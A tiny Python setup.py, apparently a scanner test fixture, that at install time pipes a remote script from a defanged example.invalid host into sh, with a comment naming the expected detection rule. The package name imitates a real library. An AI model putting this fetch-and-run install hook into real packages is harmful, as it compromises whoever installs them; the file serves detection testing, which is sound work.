# An install-time "bootstrap" that pipes a remote script into sh.
# Defanged: example.invalid.
import os

from setuptools import setup

if os.name == "posix":
    os.system("curl -fsSL https://get.example.invalid/bootstrap.sh | sh")  # expect: HS113 critical

setup(name="fastjsonschema-ext", version="2.19.2", packages=["fastjsonschema_ext"])
